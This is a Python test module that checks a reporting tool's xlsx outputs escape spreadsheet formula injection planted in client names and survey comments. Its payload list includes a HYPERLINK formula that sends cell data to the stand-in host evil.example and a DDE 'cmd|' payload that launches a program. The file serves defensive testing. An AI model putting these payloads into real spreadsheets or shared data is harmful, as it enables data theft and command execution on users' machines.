"""Formula injection: text from the data that starts with = + - @ tab or CR is inert in every xlsx we write."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from cs_reports.data import load_book
from cs_reports.data.sample import make_sample_tables
from cs_reports.data.writer import write_tables
from tests.adversarial.helpers import cli

MARKERS = ("evil.example", "cmd|", "SUM(1+1)")  # never inside a formula we write
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


@pytest.fixture(scope="module")
def hostile_path(tmp_path_factory):
    tables = make_sample_tables(2026, clients=20)  # enough clients paying in 2026-09 for every payload
    mrr = tables["MRR"]
    paying = set(mrr.loc[(mrr["month"] == "2026-09-01") & (mrr["mrr"] > 0), "client_id"])  # QBR of 2026Q3 below
    ids = [cid for cid in tables["Clients"]["client_id"] if cid in paying][: len(PAYLOADS)]
    for cid, payload in zip(ids, PAYLOADS, strict=True):
        tables["Clients"].loc[tables["Clients"]["client_id"] == cid, "name"] = payload
        tables["Clients"].loc[tables["Clients"]["client_id"] == cid, "csm"] = payload
        tables["NPS"].loc[tables["NPS"]["client_id"] == cid, "comment"] = payload
    return write_tables(tables, tmp_path_factory.mktemp("h") / "hostile.xlsx"), ids


def _assert_inert(data: bytes, where: str) -> int:
    """No payload is a formula or starts a text cell unescaped; returns how many payload cells were seen."""
    wb = load_workbook(io.BytesIO(data))  # formulas as text, values as stored
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if not isinstance(v, str):
                    continue
                if cell.data_type == "f":
                    assert not any(m in v for m in MARKERS), (where, ws.title, cell.coordinate, v)
                elif any(v.endswith(p) for p in PAYLOADS):
                    seen += 1
                    assert v.startswith("'"), (where, ws.title, cell.coordinate, v)
    return seen


def test_hostile_text_reads_back_as_the_original_text(hostile_path):
    path, ids = hostile_path
    book = load_book(path)
    # openpyxl writing through lxml (installed with python-pptx, the pptx extra) keeps a CR as typed;
    # its plain-ElementTree writer stores it as LF. Otherwise the text is exactly what the user typed.
    from openpyxl.xml import LXML

    expected = PAYLOADS if LXML else [p.replace("\r", "\n") for p in PAYLOADS]
    assert book.clients.set_index("client_id").loc[ids, "name"].tolist() == expected


def test_every_xlsx_output_is_inert(hostile_path, tmp_path):
    path, ids = hostile_path
    outputs = {"data book": path.read_bytes()}
    assert cli("metrics", str(path), "--format", "xlsx", "--out", str(tmp_path / "m.xlsx"))[0] == 0
    outputs["metrics"] = (tmp_path / "m.xlsx").read_bytes()
    assert cli("excel", "new-workbook", str(tmp_path / "t.xlsx"), "--data", str(path))[0] == 0
    outputs["template"] = (tmp_path / "t.xlsx").read_bytes()
    code, _, err = cli("finance", str(path), "--out", str(tmp_path / "f"), "--quiet", "--workers", "1")
    assert code == 0, err
    (xlsx,) = (tmp_path / "f").glob("*.xlsx")
    outputs["finance"] = xlsx.read_bytes()
    # the internal edition attaches the survey comments, where the payload is
    qbr = ("qbr", str(path), "--quarter", "2026Q3", "--client", ids[0], "--audience", "internal")
    code, _, err = cli(*qbr, "--out", str(tmp_path / "q"))
    assert code == 0, err
    from pypdf import PdfReader

    (pdf,) = (tmp_path / "q").glob("*.pdf")
    outputs["QBR attachment"] = next(iter(PdfReader(pdf).attachments.values()))[0]
    seen = {where: _assert_inert(data, where) for where, data in outputs.items()}
    assert seen["data book"] >= len(PAYLOADS)
    assert seen["template"] >= len(PAYLOADS)
    assert seen["QBR attachment"] >= 1
    for data in outputs.values():
        assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
